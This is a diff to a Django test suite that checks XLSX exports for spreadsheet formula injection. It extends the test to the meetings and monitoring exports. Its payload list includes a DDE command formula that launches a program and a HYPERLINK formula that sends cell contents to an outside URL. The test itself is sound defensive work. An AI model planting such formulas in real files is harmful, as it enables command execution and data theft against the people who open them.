@@ -21,8 +21,9 @@ HOSTILE = [
     "=1+1", "+7 913 000-00-01", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1",
     '=HYPERLINK("https://example.org/?d="&B3&C3,"Открыть")', "=cmd|' /C calc'!A0", "#N/A",
 ]
-# Every XLSX the product serves, by URL name (a test below finds them all).
-EXPORTS = ["people:export", "people:template", "documents:registry_xlsx", "documents:pairs_xlsx"]
+# Every XLSX the product serves, by URL name (a test below finds them all), with the fixture's objects in its URL.
+EXPORTS = {"people:export": {}, "people:template": {}, "documents:registry_xlsx": {}, "documents:pairs_xlsx": {},
+           "meetings:control_xlsx": {}, "monitoring:export": {"pk": "school_a"}}
 
 
 def xlsx_urls(patterns=None, prefix: str = ""):
@@ -41,6 +42,9 @@ def cells(content: bytes) -> list:
 
 
 class SpreadsheetTextTests(DocumentsTestCase):
+    def export(self, name: str):
+        return self.client.get(reverse(name, kwargs={key: getattr(self, value).pk for key, value in EXPORTS[name].items()}))
+
     def hostile_data(self) -> None:
         """Hostile text in every kind of value an export shows: names, organization, form, competences,
         interests, requests, the representative, the number of an order."""
@@ -67,7 +71,8 @@ class SpreadsheetTextTests(DocumentsTestCase):
         writers = {path.relative_to(ROOT).as_posix() for path in ROOT.glob("*/**/*.py")
                    if "/tests/" not in path.as_posix() and ".venv" not in path.parts
                    and re.search(r"\bWorkbook\(", path.read_text(encoding="utf-8"))}
-        self.assertEqual(writers, {"people/exporting.py", "documents/exporting.py", "bench/import_participants.py"})
+        self.assertEqual(writers, {"people/exporting.py", "documents/exporting.py", "meetings/printing.py",
+                                   "monitoring/exporting.py", "bench/import_participants.py"})
         for writer in writers - {"bench/import_participants.py"}:
             source = (ROOT / writer).read_text(encoding="utf-8")
             self.assertIn("from utilities.spreadsheets import row_cells", source)
@@ -78,7 +83,7 @@ class SpreadsheetTextTests(DocumentsTestCase):
         self.login(self.curator_a)
         found = []
         for name in EXPORTS:
-            response = self.client.get(reverse(name))
+            response = self.export(name)
             self.assertEqual(response.status_code, 200, name)
             for cell in cells(response.content):
                 self.assertNotIn(cell.data_type, ("f", "e"), f"{name}, {cell.coordinate}: {cell.value!r}")
@@ -92,7 +97,7 @@ class SpreadsheetTextTests(DocumentsTestCase):
         self.approved(self.pupil_a)
         self.login(self.curator_a)
         for name in EXPORTS:
-            response = self.client.get(reverse(name))
+            response = self.export(name)
             self.assertEqual(response.status_code, 200, name)
             values = {cell.value for cell in cells(response.content)}
             self.assertFalse({v for v in values if isinstance(v, str) and any(ord(c) < 32 and c != "\n" for c in v)})
